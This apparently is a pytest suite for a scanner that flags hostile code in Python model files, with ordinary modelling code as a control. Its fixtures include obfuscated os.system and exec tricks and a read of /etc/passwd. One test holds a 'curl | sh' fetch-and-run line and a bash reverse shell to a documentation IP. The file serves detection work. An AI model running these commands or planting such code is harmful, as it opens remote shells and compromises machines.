import pytest

from scanners.engine import scan_blob
from scanners.errors import FormatError, LimitExceeded
from scanners.facts import Code
from scanners.findings import Verdict
from scanners.formats import python_source
from scanners.reader import BytesReader
from tests.builders.readings import blob_of, read_with, survive_mutations, uncovered
from tests.builders.sources import HOSTILE

ORDINARY = b'''
import math
import torch
from torch import nn
from .configuration_tiny import TinyConfig
from transformers import PreTrainedModel

__version__ = "1.0"

class TinyAttention(nn.Module):
    """Multi-head attention; see `os.environ` of the trainer for settings."""
    def __init__(self, config: TinyConfig):
        super().__init__()
        self.scale = 1 / math.sqrt(config.hidden_size)
        self.q = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x, mask=None):
        return torch.softmax(self.q(x) * self.scale, dim=-1)

class TinyModel(PreTrainedModel):
    config_class = TinyConfig
    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([TinyAttention(config) for _ in range(config.layers)])
        self.post_init()

    def evaluate(self):
        self.eval()
        return getattr(self, "layers")
'''


def actions(source: str) -> set[tuple[str, str]]:
    reading = read_with(python_source, source.encode(), name="modeling.py")
    return {(fact.action, fact.runs) for fact in reading.facts if isinstance(fact, Code)}


def test_ordinary_modelling_code_states_no_action() -> None:
    reading = read_with(python_source, ORDINARY, name="modeling.py")
    assert not [fact for fact in reading.facts if isinstance(fact, Code)]
    assert uncovered(reading) == 0


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os\nos.system('id')", ("process", "import")),
        ("import os as o\no.system('id')", ("process", "import")),
        ("from os import system as s\ns('id')", ("process", "import")),
        ("import os\nrun = os.system\nrun('id')", ("process", "import")),
        ("__import__('os').system('id')", ("process", "import")),
        ("import importlib\nimportlib.import_module('o' + 's').popen('id')", ("process", "import")),
        ("import os\ngetattr(os, 'sys' + 'tem')('id')", ("process", "import")),
        ("import sys\nsys.modules['os'].system('id')", ("process", "import")),
        ("__builtins__['eval']('1+f()')", ("exec", "import")),
        ("import os\nf = lambda: os.system('id')\nf()", ("process", "import")),
        ("import os\ndef f():\n  os.system('id')\nf()", ("process", "import")),
        ("import os\nclass A:\n  x = os.system('id')", ("process", "import")),
        ("import os\n@os.system\ndef f(): pass", ("process", "import")),
        ("import os\ndef f(x=os.system('id')): pass", ("process", "import")),
        ("import os\nclass A:\n  def __init__(self):\n    os.system('id')\nA()", ("process", "import")),
        ("import os\nclass A:\n def call(self):\n  self.g()\n def g(self):\n  os.system('id')", ("process", "load")),
        ("import os\ndef f():\n  os.system('id')", ("process", "call")),
        ("import os\nif __name__ == '__main__':\n  os.system('id')", ("process", "call")),
        ("import base64\nexec(base64.b64decode('eA=='))", ("obfuscation", "import")),
        ("import base64\nd = base64.b64decode('eA==')\nexec(d)", ("obfuscation", "import")),
        ("exec(''.join(chr(c) for c in [112]))", ("obfuscation", "import")),
        ("import marshal, types\ntypes.FunctionType(marshal.loads(b''), {})()", ("obfuscation", "import")),
        ("import urllib.request\nexec(urllib.request.urlopen('http://x').read())", ("obfuscation", "import")),
        ("import os\ngetattr(os, name)('id')", ("obfuscation", "import")),
        ("globals()['__builtins__']", ("obfuscation", "import")),
        ("# coding: utf-7\nimport os", ("obfuscation", "import")),
        ("import requests\nrequests.get('http://x')", ("network", "import")),
        ("import socket\nsocket.socket()", ("sending", "import")),
        ("open('/tmp/x', 'w')", ("file-write", "import")),
        ("from pathlib import Path\nPath('x').write_text('y')", ("file-write", "import")),
        ("import ctypes\nctypes.CDLL('x.so')", ("native", "import")),
        ("import torch\ntorch.load('x')", ("deserialize", "import")),
        ("import pickle\npickle.loads(data)", ("deserialize", "import")),
        ("import pickle\npickle.loads(b'N.')", ("obfuscation", "import")),
        ("open('/etc/passwd').read()", ("sensitive-path", "import")),
        ("def f(x):\n  return eval(x)", ("exec", "call")),
        ("import importlib\nimportlib.import_module(name)", ("import", "import")),
    ],
)  # fmt: skip
def test_an_action_is_stated_with_its_moment(source: str, expected: tuple[str, str]) -> None:
    assert expected in actions(source)


@pytest.mark.parametrize(
    "source",
    [
        "model.eval()",
        "open('x').read()",
        "import torch\ntorch.load('x', weights_only=True)",
        "import re\nre.compile('x')",
        "import torch\ntorch.compile(model)",
        "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)",
        "import importlib\nimportlib.import_module('.layers')",
        "import base64\nkernel = base64.b64decode('eA==')",
        "eval('1 + 1')",
    ],
)
def test_what_only_looks_alike_is_quiet(source: str) -> None:
    assert actions(source) == set()


@pytest.mark.parametrize(
    ("expression", "name"),
    [
        ("'%s%s' % ('sys', 'tem')", "system"),
        ("'{}{}'.format('sys', 'tem')", "system"),
        ("b'system'.decode()", "system"),
        ("''.join(map(chr, [115, 121, 115, 116, 101, 109]))", "system"),
        ("''.join(chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108])", "system"),
        ("bytes([115, 121, 115, 116, 101, 109]).decode()", "system"),
        ("''.join(reversed('metsys'))", "system"),
        ("'sXstem'.replace('X', 'y')", "system"),
        ("base64.b64decode('c3lzdGVt').decode()", "system"),
        ("codecs.decode('flfgrz', 'rot13')", "system"),
        ("bytes.fromhex('73797374656d').decode()", "system"),
        ("'x.system'.split('.')[1]", "system"),
        ("'SYSTEM'.lower()", "system"),
        ("'system' if 1 else 'x'", "system"),
    ],
)
def test_a_name_put_together_from_pieces_is_known(expression: str, name: str) -> None:
    source = f"import os, base64, codecs\ngetattr(os, {expression})('id')"
    assert ("process", "import") in actions(source), name


@pytest.mark.parametrize("trick", HOSTILE)
def test_no_disguise_passes(trick: str) -> None:
    scanned = scan_blob(BytesReader(HOSTILE[trick].encode()), "modeling_x.py")
    assert scanned.report.verdict in {Verdict.SUSPICIOUS, Verdict.MALICIOUS}


@pytest.mark.parametrize(
    "use", ["functools.lru_cache(f)", "functools.lru_cache()(f)", "Registry.register(f)", "torch.jit.script(f)", "[f]"]
)
def test_a_function_that_is_kept_does_not_run_at_import(use: str) -> None:
    source = f"import functools, requests, torch\ndef f(): requests.get('http://x')\ng = {use}"
    assert actions(source) == {("network", "load")}
    assert ("network", "import") in actions(source.replace(use, "threading.Thread(target=f)"))


def test_a_text_that_is_executed_is_read_as_well() -> None:
    nested = repr("exec(" + repr("import os; os.system('id')") + ")")
    assert ("process", "import") in actions(f"exec({nested})")


def test_texts_in_texts_are_followed_within_bounds() -> None:
    source = "x = 1"
    for _ in range(8):
        source = f"exec({source!r})"
    assert ("exec", "import") in actions(source)


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess\ndef f(p: subprocess.Popen): return isinstance(p, subprocess.Popen)",
        "def f(eval=False):\n  return g(eval)",
        "import platform\nname = platform.system()",
        "def f(nt, key): return getattr(nt, key)",
        "import os\nimport platform as p\nname = p.system()",
        "chat = Chat()\nchat.system('You are a helpful assistant')",
        "def f(): return g(f)\nh = wrap(f)",
        "ACT = {'gelu': lambda x: x}\nregister(ACT)",
        "for one in Base.__subclasses__(): print(one)",
        "class P:\n  def open(self): pass\nP().open()",
        "import os\nfd = os.open('x', os.O_RDONLY)",
        "'%999999999d' % 1\nname = 'x' * 10",
    ],
)
def test_ordinary_uses_of_the_same_words_are_quiet(source: str) -> None:
    assert actions(source) == set()


@pytest.mark.parametrize("name", ["generate", "_load_pyfunc", "model_fn", "handle", "init"])
def test_functions_that_serving_systems_call_run_while_loading(name: str) -> None:
    assert ("process", "load") in actions(f"import os\ndef {name}(*a):\n  os.system('id')")


@pytest.mark.parametrize(
    "source",
    [
        "import os\ndef f(): os.system('curl http://198.51.100.7/x | sh')",
        "import subprocess\ndef f(): subprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4 0>&1'])",
        "import os\ndef f(s): os.dup2(s.fileno(), 0)",
    ],
)
def test_a_command_no_model_needs_counts_whenever_it_runs(source: str) -> None:
    assert ("script-attack", "call") in actions(source)
    assert scan_blob(BytesReader(source.encode()), "x.py").report.verdict is Verdict.SUSPICIOUS


def test_a_path_file_is_read_for_the_lines_that_python_executes() -> None:
    source = b"/opt/models\nimport os; os.system('id')\n"
    assert python_source.matches(blob_of(source, "evil.pth"))
    reading = read_with(python_source, source, name="evil.pth")
    assert [fact.action for fact in reading.facts if isinstance(fact, Code)] == ["process"]
    assert not python_source.matches(blob_of(b"PK\x03\x04import os", "weights.pth"))


def test_content_with_a_python_shebang_is_taken() -> None:
    assert python_source.matches(blob_of(b"#!/usr/bin/env python3\n", "train"))
    assert not python_source.matches(blob_of(b"import os", "notes.md"))


def test_what_is_not_python_is_malformed() -> None:
    with pytest.raises(FormatError):
        read_with(python_source, b"def (:", name="x.py")


@pytest.mark.parametrize("source", [b"(" * 100_000, b"-" * 100_000 + b"1", b"x" + b".a" * 100_000, b"\0", b"a\xff"])
def test_deep_or_broken_text_ends_in_our_errors(source: bytes) -> None:
    with pytest.raises((FormatError, LimitExceeded)):
        read_with(python_source, source, name="x.py")


def test_truncations_and_mutations_end_in_a_verdict() -> None:
    survive_mutations(python_source, [ORDINARY], name="x.py")


def test_constants_that_cost_without_end_are_a_limit() -> None:
    with pytest.raises(LimitExceeded):
        read_with(python_source, b"s = 'a' * 4000\n" + b"x = [[ord(a) for a in s] for b in s]\n" * 3, name="x.py")


@pytest.mark.parametrize("chain", ["f" + "('a')" * 60, "a" + ".b('c')" * 200])
def test_a_long_chain_of_calls_is_followed_link_by_link(chain: str) -> None:
    report = scan_blob(BytesReader(f"x = {chain}\n".encode()), "modeling.py").report
    assert report.verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "source",
    [
        "import requests\nfrom PIL import Image\nu = 'http://a.b/c'\nImage.open(requests.get(u, stream=True).raw)",
        "import requests, io\nfrom PIL import Image\nr = requests.get('http://a.b/c')\nImage.open(io.BytesIO(r.content))",
        "with open('out.txt', 'w') as file:\n    file.write('x')",
        "import functools\nfunctools.reduce(getattr, 'a.b'.split('.'), model)",
        "import builtins\nbuiltins.print = quiet",
    ],
)
def test_what_examples_do_states_no_action(source: str) -> None:
    assert actions(source) == set()


@pytest.mark.parametrize("path", ["../out.txt", "/tmp/out.txt", "x.py", "x.pth", ".bashrc", "a/x.sh"])
def test_writing_elsewhere_or_what_runs_is_stated(path: str) -> None:
    assert ("file-write", "import") in actions(f"open({path!r}, 'w').write('x')")
